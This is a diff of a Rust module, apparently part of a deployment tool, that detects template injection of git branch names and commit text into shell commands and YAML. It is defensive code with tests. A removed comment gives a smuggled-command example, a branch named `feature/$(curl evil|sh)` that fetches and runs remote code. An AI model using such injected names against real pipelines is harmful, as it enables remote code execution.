@@ -1,117 +1,212 @@
 //! Values from git in places where they would be read as code or as YAML structure.
 //!
-//! Render commands that would run a branch name as code:
-//! Branch names, commit subjects and authors are chosen by whoever can push. As separate
-//! arguments of a program they are plain data, but interpolated into the script of
-//! `sh -c "..."` a branch called `feature/$(curl evil|sh)` runs. A shell script may interpolate a
-//! value only through the `shell_quote` filter; the code argument of another interpreter
-//! (`python -c`, `perl -e`, ...) may not interpolate at all: such values travel in the
-//! `OCTOSTAGE_*` environment variables.
+//! Branch names, commit subjects and authors are chosen by whoever can push. In a render
+//! command they may not appear in an argument at all: a program may read any argument as code
+//! (`sh -c`, but also `timeout 5 sh -c`, `xargs`, `find -exec`, `python -c`, ...), and no check of
+//! program names can know them all. The one exception is the script of a shell run directly
+//! (`sh -c SCRIPT`, `bash -euc SCRIPT`, `env X=1 sh -c SCRIPT`), where such a value may stand
+//! through `shell_quote`, outside double quotes and backticks, in a script without `eval`.
+//! Everywhere else the values travel in the `OCTOSTAGE_*` environment variables.
+//!
+//! The names every context offers that cannot carry such text are safe anywhere: `staging`,
+//! `namespace`, `environment` (DNS labels), `branch.slug`, `commit.sha`, `commit.short_sha`,
+//! `commit.time`, `config_commit`. `values` and `links` are the configuration's own, unless one
+//! of them is itself a template that uses an untrusted name.
 
 /// Programs that read `-c SCRIPT` as shell code.
-const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox"];
-/// Interpreters with a flag that takes code, and that flag.
-const INTERPRETERS: &[(&str, &[&str])] = &[
-    ("python", &["-c"]),
-    ("python3", &["-c"]),
-    ("perl", &["-e", "-E"]),
-    ("ruby", &["-e"]),
-    ("node", &["-e", "--eval", "-p", "--print"]),
-    ("php", &["-r"]),
+const SHELLS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "rbash", "busybox",
 ];
 
-/// Values of the template context anyone who can push chooses the text of (branch names are
-/// restricted by git, commit subjects and authors are not).
-const UNTRUSTED: &[&str] = &["branch.name", "commit.subject", "commit.author"];
+/// Context names whose text anyone who can push chooses, and the variable that carries each.
+const UNTRUSTED: &[(&str, &str)] = &[
+    ("branch.name", "OCTOSTAGE_BRANCH"),
+    ("commit.subject", "OCTOSTAGE_COMMIT_SUBJECT"),
+    ("commit.author", "OCTOSTAGE_COMMIT_AUTHOR"),
+];
+
+/// Filters (last in an expression) whose result cannot carry YAML syntax.
+const YAML_SAFE: &[&str] = &["|slug", "|length", "|int", "|tojson"];
+/// Filters (last in an expression) whose result cannot carry shell syntax.
+const SHELL_SAFE: &[&str] = &["|slug", "|length", "|int"];
 
 /// Places in a YAML template where a value from git is written without `tojson`: (line,
 /// expression). Unquoted, `commit.subject` can add keys to a flow mapping or anchors and tags;
-/// in quotes, a `"` in it ends the string.
+/// in quotes, a `"` in it ends the string. (A guard at render time catches what this misses:
+/// see `render::guard`.)
 pub fn yaml_template(source: &str) -> Vec<(usize, String)> {
     let mut out = Vec::new();
     for (i, line) in source.lines().enumerate() {
         for e in expressions(line) {
-            let compact: String = e.chars().filter(|c| !c.is_whitespace()).collect();
-            let quoted = ["|tojson", "|slug", "|shell_quote", "|length"]
-                .iter()
-                .any(|f| compact.contains(f));
-            if !quoted && UNTRUSTED.iter().any(|u| compact.contains(u)) {
-                out.push((i + 1, e.trim().to_string()));
+            if untrusted_name(e.inner, false).is_some() && !ends_with_any(e.inner, YAML_SAFE) {
+                out.push((i + 1, e.inner.trim().to_string()));
             }
         }
     }
     out
 }
 
-/// The problems of a render command: (argument index, message).
-pub fn command(argv: &[String]) -> Vec<(usize, String)> {
-    let Some(first) = argv.first() else {
-        return Vec::new();
-    };
-    // `env [VAR=x...] prog` and `busybox sh` run the program that follows.
-    let mut start = 0;
-    let mut program = basename(first);
-    while program == "env" || program == "busybox" {
-        start += 1;
-        while argv
-            .get(start)
-            .is_some_and(|a| a.contains('=') || a.starts_with('-'))
-        {
-            start += 1;
-        }
-        let Some(next) = argv.get(start) else {
-            return Vec::new();
-        };
-        program = basename(next);
-    }
-    let version_stripped = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
-    if SHELLS.contains(&program) {
-        return shell_script(argv, start)
-            .map(|i| unquoted(&argv[i], i))
-            .unwrap_or_default();
-    }
-    for (name, flags) in INTERPRETERS {
-        if program == *name || version_stripped == *name {
-            return code_argument(argv, start, flags)
-                .filter(|&i| !expressions(&argv[i]).is_empty())
-                .map(|i| {
-                    vec![(
-                        i,
-                        format!(
-                            "the code run by `{program}` interpolates a template value: anyone who can push a branch could run code here; read the value from its environment variable instead (such as OCTOSTAGE_BRANCH)"
-                        ),
-                    )]
-                })
-                .unwrap_or_default();
+/// Whether a settings value (a `values` or `links` template) uses an untrusted name.
+pub fn uses_untrusted(template: &str) -> bool {
+    expressions(template)
+        .iter()
+        .any(|e| untrusted_name(e.inner, false).is_some())
+}
+
+/// The problems of a render command: (argument index, message). `tainted` says whether the
+/// configuration's `values` or `links` carry untrusted names.
+pub fn command(argv: &[String], tainted: bool) -> Vec<(usize, String)> {
+    let script = shell_script(argv);
+    let mut out = Vec::new();
+    for (i, arg) in argv.iter().enumerate() {
+        for e in expressions(arg) {
+            let Some((name, var)) = untrusted_name(e.inner, tainted) else {
+                continue;
+            };
+            if ends_with_any(e.inner, SHELL_SAFE) {
+                continue;
+            }
+            let inner = e.inner.trim();
+            let message = if Some(i) == script {
+                match script_problem(arg, &e) {
+                    None => continue,
+                    Some(why) => format!(
+                        "the shell script interpolates `{{{{ {inner} }}}}` {why}: anyone who can push a branch could run code here; write `{{{{ {name} | shell_quote }}}}` on its own, outside double quotes (or use \"${var}\")"
+                    ),
+                }
+            } else {
+                format!(
+                    "`{{{{ {inner} }}}}` puts {name}, which anyone who can push chooses, into a command argument, where the program may run it as code; read it from its environment variable {var} instead"
+                )
+            };
+            out.push((i, message));
         }
     }
-    Vec::new()
+    out
+}
+
+/// Why a shell script's use of an untrusted expression is unsafe, if it is.
+fn script_problem(script: &str, e: &Expr<'_>) -> Option<&'static str> {
+    let compact: String = e.inner.chars().filter(|c| !c.is_whitespace()).collect();
+    if !compact.ends_with("|shell_quote") {
+        return Some("unquoted");
+    }
+    let before = &script[..e.start];
+    if before.chars().filter(|&c| c == '"').count() % 2 == 1 {
+        return Some("inside double quotes, where shell_quote's quotes do not count");
+    }
+    if before.chars().filter(|&c| c == '`').count() % 2 == 1 {
+        return Some("inside backticks");
+    }
+    if script
+        .split(|c: char| !c.is_alphanumeric())
+        .any(|w| w == "eval")
+    {
+        return Some("in a script that uses eval, which runs it again");
+    }
+    None
+}
+
+/// The untrusted name an expression uses, with its variable: `branch.name`, the whole
+/// `branch` or `commit`, or (when `tainted`) `values` and `links`.
+fn untrusted_name(inner: &str, tainted: bool) -> Option<(&'static str, &'static str)> {
+    let words = names(inner);
+    for w in &words {
+        for (name, var) in UNTRUSTED {
+            if w == name || w.starts_with(&format!("{name}.")) {
+                return Some((name, var));
+            }
+        }
+        if w == "branch" {
+            return Some(("branch.name", "OCTOSTAGE_BRANCH"));
+        }
+        if w == "commit" {
+            return Some(("commit.subject", "OCTOSTAGE_COMMIT_SUBJECT"));
+        }
+        if tainted && (w == "values" || w.starts_with("values.")) {
+            return Some(("values", "OCTOSTAGE_VALUES"));
+        }
+        if tainted && (w == "links" || w.starts_with("links.")) {
+            return Some(("links", "OCTOSTAGE_CONTEXT"));
+        }
+    }
+    None
+}
+
+/// The dotted names in an expression (`values.a.b`, `branch.name`).
+fn names(inner: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut quote: Option<char> = None;
+    for c in inner.chars() {
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == '"' || c == '\'' => quote = Some(c),
+            None if c.is_ascii_alphanumeric() || c == '_' || c == '.' => cur.push(c),
+            None => {
+                if !cur.is_empty() {
+                    out.push(std::mem::take(&mut cur));
+                }
+            }
+        }
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out.into_iter()
+        .map(|w| w.trim_matches('.').to_string())
+        .filter(|w| w.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
+        .collect()
+}
+
+fn ends_with_any(inner: &str, filters: &[&str]) -> bool {
+    let compact: String = inner.chars().filter(|c| !c.is_whitespace()).collect();
+    filters.iter().any(|f| compact.ends_with(f))
 }
 
 fn basename(p: &str) -> &str {
     p.rsplit('/').next().unwrap_or(p)
 }
 
-/// The index of the script of `sh [options] -c SCRIPT`, if the shell is given one.
-fn shell_script(argv: &[String], program: usize) -> Option<usize> {
+/// The index of the script of a shell run directly: `sh [options] -c SCRIPT`, after at most an
+/// `env [VAR=x]...` or `busybox` prefix. Wrappers (`timeout`, `xargs`, `nice`, ...) are not
+/// followed: behind one, a value is just a command argument.
+fn shell_script(argv: &[String]) -> Option<usize> {
+    let mut p = 0;
+    if argv.first().map(|a| basename(a)) == Some("env") {
+        p = 1;
+        while argv
+            .get(p)
+            .is_some_and(|a| a.contains('=') && !a.starts_with('-'))
+        {
+            p += 1;
+        }
+    }
+    if argv.get(p).map(|a| basename(a)) == Some("busybox") {
+        p += 1;
+    }
+    if !SHELLS.contains(&basename(argv.get(p)?)) {
+        return None;
+    }
     let mut seen_c = false;
-    let mut i = program + 1;
+    let mut i = p + 1;
     while i < argv.len() {
         let a = argv[i].as_str();
-        if a == "--" {
-            i += 1;
-            break;
-        }
         if a == "-o" || a == "+o" {
             i += 2;
             continue;
         }
-        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 && !a.starts_with("--") {
-            seen_c |= a[1..].contains('c');
+        if a.starts_with("--") {
+            // Long options (`--norc`) take no value; `--` ends the options.
             i += 1;
+            if a == "--" {
+                break;
+            }
             continue;
         }
-        if a.starts_with("--") {
+        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 {
+            seen_c |= a[1..].contains('c');
             i += 1;
             continue;
         }
@@ -120,52 +215,29 @@ fn shell_script(argv: &[String], program: usize) -> Option<usize> {
     (seen_c && i < argv.len()).then_some(i)
 }
 
-/// The index of the code argument of `python -c CODE` and the like.
-fn code_argument(argv: &[String], program: usize, flags: &[&str]) -> Option<usize> {
-    argv.iter()
-        .enumerate()
-        .skip(program + 1)
-        .find(|(_, a)| flags.contains(&a.as_str()))
-        .map(|(i, _)| i + 1)
-        .filter(|&i| i < argv.len())
+/// One `{{ ... }}` of a text: where it starts and its inner text (whitespace control removed).
+pub struct Expr<'a> {
+    /// Byte offset of `{{`.
+    pub start: usize,
+    /// The expression.
+    pub inner: &'a str,
 }
 
-/// Every `{{ ... }}` of `script` that does not end in `| shell_quote`.
-fn unquoted(script: &str, index: usize) -> Vec<(usize, String)> {
-    expressions(script)
-        .into_iter()
-        .filter(|e| !is_quoted(e))
-        .map(|e| {
-            let inner = e.trim();
-            (
-                index,
-                format!(
-                    "the shell script interpolates `{{{{ {inner} }}}}` unquoted: anyone who can push a branch could run code here; write `{{{{ {inner} | shell_quote }}}}` (or use its environment variable, quoted: \"$OCTOSTAGE_BRANCH\")"
-                ),
-            )
-        })
-        .collect()
-}
-
-/// The inner text of each `{{ ... }}` (whitespace control `-`/`+` removed).
-fn expressions(text: &str) -> Vec<&str> {
+/// Every `{{ ... }}` of `text`.
+fn expressions(text: &str) -> Vec<Expr<'_>> {
     let mut out = Vec::new();
-    let mut rest = text;
-    while let Some(start) = rest.find("{{") {
-        let after = &rest[start + 2..];
+    let mut offset = 0;
+    while let Some(start) = text[offset..].find("{{") {
+        let open = offset + start;
+        let after = &text[open + 2..];
         let Some(end) = after.find("}}") else { break };
         let inner = after[..end]
             .trim_start_matches(['-', '+'])
             .trim_end_matches(['-', '+']);
-        out.push(inner);
-        rest = &after[end + 2..];
+        out.push(Expr { start: open, inner });
+        offset = open + 2 + end + 2;
     }
     out
-}
-
-fn is_quoted(expr: &str) -> bool {
-    let compact: String = expr.chars().filter(|c| !c.is_whitespace()).collect();
-    compact.ends_with("|shell_quote")
 }
 
 #[cfg(test)]
@@ -176,9 +248,13 @@ mod tests {
         a.iter().map(|s| s.to_string()).collect()
     }
 
+    fn problems(a: &[&str]) -> usize {
+        command(&args(a), false).len()
+    }
+
     #[test]
-    fn shell_scripts_must_quote_every_value() {
-        let bad = command(&args(&["sh", "-c", "echo {{ branch.name }} >> log"]));
+    fn a_shell_script_may_use_a_git_value_only_shell_quoted_and_outside_double_quotes() {
+        let bad = command(&args(&["sh", "-c", "echo {{ branch.name }} >> log"]), false);
         assert_eq!(bad.len(), 1);
         assert_eq!(bad[0].0, 2);
         assert!(
@@ -189,20 +265,76 @@ mod tests {
         for ok in [
             &["sh", "-c", "echo {{ branch.name | shell_quote }} >> log"][..],
             &["sh", "-c", "echo {{- branch.name|shell_quote -}}"],
+            &[
+                "env",
+                "A=1",
+                "sh",
+                "-c",
+                "echo {{ commit.subject | shell_quote }}",
+            ],
             &["sh", "-c", "echo \"$OCTOSTAGE_BRANCH\""],
-            &["sh", "render.sh", "{{ branch.name }}"],
-            &["helm", "template", "{{ staging }}", "charts/app"],
+            &[
+                "sh",
+                "render.sh",
+                "{{ staging }}",
+                "{{ branch.slug }}",
+                "{{ commit.sha }}",
+            ],
+            &[
+                "helm",
+                "template",
+                "{{ staging }}",
+                "charts/app",
+                "--set",
+                "tag={{ commit.short_sha }}",
+            ],
+            &["helm", "template", "{{ values.release }}"],
         ] {
-            assert!(command(&args(ok)).is_empty(), "{ok:?}");
+            assert_eq!(problems(ok), 0, "{ok:?}");
         }
         for bad in [
             &["/bin/bash", "-euc", "x {{ commit.subject }}"][..],
             &["bash", "-o", "pipefail", "-c", "x {{ branch.name }}"],
-            &["env", "A=b", "sh", "-c", "x {{ branch.name }}"],
-            &["busybox", "sh", "-c", "x {{ branch.name }}"],
+            &["sh", "-c", "echo \"{{ branch.name | shell_quote }}\""],
+            &["sh", "-c", "echo `echo {{ branch.name | shell_quote }}`"],
+            &["sh", "-c", "eval echo {{ branch.name | shell_quote }}"],
+            &["sh", "-c", "echo {{ commit }}"],
         ] {
-            assert_eq!(command(&args(bad)).len(), 1, "{bad:?}");
+            assert_eq!(problems(bad), 1, "{bad:?}");
         }
+    }
+
+    #[test]
+    fn behind_any_other_program_a_git_value_is_refused_outright() {
+        for bad in [
+            &[
+                "timeout",
+                "30",
+                "sh",
+                "-c",
+                "echo {{ branch.name | shell_quote }}",
+            ][..],
+            &["xargs", "sh", "-c", "{{ branch.name }}"],
+            &[
+                "find",
+                ".",
+                "-exec",
+                "sh",
+                "-c",
+                "{{ branch.name | shell_quote }}",
+                ";",
+            ],
+            &["python3", "-c", "print('{{ branch.name }}')"],
+            &["helm", "template", "{{ branch.name }}"],
+            &["nice", "sh", "-c", "{{ commit.author | shell_quote }}"],
+        ] {
+            assert_eq!(problems(bad), 1, "{bad:?}");
+        }
+        // Values that carry a git value count as one.
+        assert_eq!(
+            command(&args(&["helm", "template", "{{ values.x }}"]), true).len(),
+            1
+        );
     }
 
     #[test]
@@ -217,28 +349,7 @@ mod tests {
                 (2, "commit.subject".to_string())
             ]
         );
-    }
-
-    #[test]
-    fn other_interpreters_take_values_from_the_environment_only() {
-        assert_eq!(
-            command(&args(&["python3", "-c", "print('{{ branch.name }}')"])).len(),
-            1
-        );
-        assert!(command(&args(&[
-            "python3",
-            "-c",
-            "import os; print(os.environ['OCTOSTAGE_BRANCH'])"
-        ]))
-        .is_empty());
-        assert_eq!(
-            command(&args(&[
-                "perl",
-                "-e",
-                "print '{{ branch.name | shell_quote }}'"
-            ]))
-            .len(),
-            1
-        );
+        assert!(uses_untrusted("https://{{ branch.name }}.example.com"));
+        assert!(!uses_untrusted("https://{{ staging }}.example.com"));
     }
 }
